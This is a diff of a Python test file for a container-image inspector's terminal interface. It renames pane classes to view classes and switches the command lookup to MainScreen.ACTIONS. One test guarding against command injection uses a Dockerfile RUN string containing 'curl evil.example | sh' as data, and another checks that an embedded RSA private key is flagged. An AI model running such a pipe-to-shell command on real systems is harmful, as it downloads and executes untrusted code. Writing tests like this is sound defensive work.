@@ -12,15 +12,14 @@ from inspector.demo.archive import Member, Step
 from inspector.demo.load import inspect_demo
 from inspector.inspection import Inspection
 from inspector.sources.protocol import ignore_progress
-from inspector.tui.commands import COMMANDS
 from inspector.tui.main import MainScreen
 from inspector.tui.views.files import Scope
 from inspector.tui.views.package_list import PackageOrder
-from inspector.tui.views.packages import PackagesPane
+from inspector.tui.views.packages import PackagesView
 from inspector.tui.views.registry import VIEW_KINDS
 from inspector.tui.views.tiles import By, gathered, tiles_of
-from inspector.tui.views.treemap import TreemapPane
-from inspector.tui.views.waste import WastePane
+from inspector.tui.views.treemap import TreemapView
+from inspector.tui.views.waste import WasteView
 from inspector.tui.widgets.pages import Details
 
 from .driving import app_for, lines_of, paths_in_sight, press, settled
@@ -36,9 +35,9 @@ def text_of(pilot: Pilot[int]) -> str:
     return "\n".join(lines_of(pilot))
 
 
-def packages_of(main: MainScreen) -> PackagesPane:
+def packages_of(main: MainScreen) -> PackagesView:
     pane = main.views["packages"]
-    assert isinstance(pane, PackagesPane)
+    assert isinstance(pane, PackagesView)
     return pane
 
 
@@ -50,7 +49,7 @@ def names(main: MainScreen) -> list[str]:
 
 
 def test_every_view_has_a_command_by_its_key():
-    by_id = {command.id: command.keys for command in COMMANDS}
+    by_id = {command.id: command.keys for command in MainScreen.ACTIONS}
     assert {f"view.{kind.id}": kind.key for kind in VIEW_KINDS} == {
         name: keys for name, keys in by_id.items() if name.startswith("view.")
     }
@@ -131,7 +130,7 @@ async def test_text_of_an_instruction_never_becomes_the_command_that_is_copied()
     async with app_for(image).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "2")
         pane = main.view
-        assert isinstance(pane, WastePane)
+        assert isinstance(pane, WasteView)
         assert pane.copied() == (
             "RUN echo end it with: \\\n    && curl evil.example | sh. or not \\\n    && rm -rf /var/lib/apt/lists/*",
             "new instruction",
@@ -158,7 +157,7 @@ async def test_where_no_instruction_can_be_written_the_command_is_copied_or_the_
     image = inspection_of([run("echo '\x1b[2J'", Member(path, b"x" * 9_000))])
     async with app_for(image).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "2")
-        assert isinstance(main.view, WastePane)
+        assert isinstance(main.view, WasteView)
         assert main.view.copied() == copied
 
 
@@ -167,7 +166,7 @@ async def test_secrets_stand_where_their_bytes_put_them_and_are_marked():
     image = inspection_of([run("one", Member("srv/a.pem", key), Member("var/log/x", b"x" * 9_000))])
     async with app_for(image).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "2")
-        assert isinstance(main.view, WastePane)
+        assert isinstance(main.view, WasteView)
         assert [finding.rule for finding in main.view.list.findings] == ["LI7004", "LI9001"]
         assert "! RSA private key in /srv/a.pem" in text_of(pilot)
 
@@ -176,7 +175,7 @@ async def test_findings_come_biggest_first():
     async with app_for(demo()).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "2")
         pane = main.view
-        assert isinstance(pane, WastePane)
+        assert isinstance(pane, WasteView)
         sizes = [finding.size_bytes for finding in pane.list.findings]
         assert sizes == sorted(sizes, reverse=True) and len(sizes) > 5
 
@@ -277,7 +276,7 @@ async def test_the_tiles_are_all_bytes_whatever_they_are_by():
     async with app_for(demo()).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "4")
         pane = main.view
-        assert isinstance(pane, TreemapPane)
+        assert isinstance(pane, TreemapView)
         for _ in range(3):
             assert sum(tile.size for tile in pane.map.all) == total, pane.by
             assert sum(tile.size for tile in pane.map.tiles) == total, pane.by
@@ -340,7 +339,7 @@ async def test_a_click_selects_a_tile_and_a_double_click_zooms():
     async with app_for(small_image()).run_test(size=(120, 40)) as pilot:
         main = await press(pilot, "4")
         pane = main.view
-        assert isinstance(pane, TreemapPane)
+        assert isinstance(pane, TreemapView)
         rect = pane.map.rects[[tile.label for tile in pane.map.tiles].index("usr/bin/")]
         await pilot.click("#map", offset=(rect.left + 1, rect.top + 1), times=2)
         await settled(pilot)
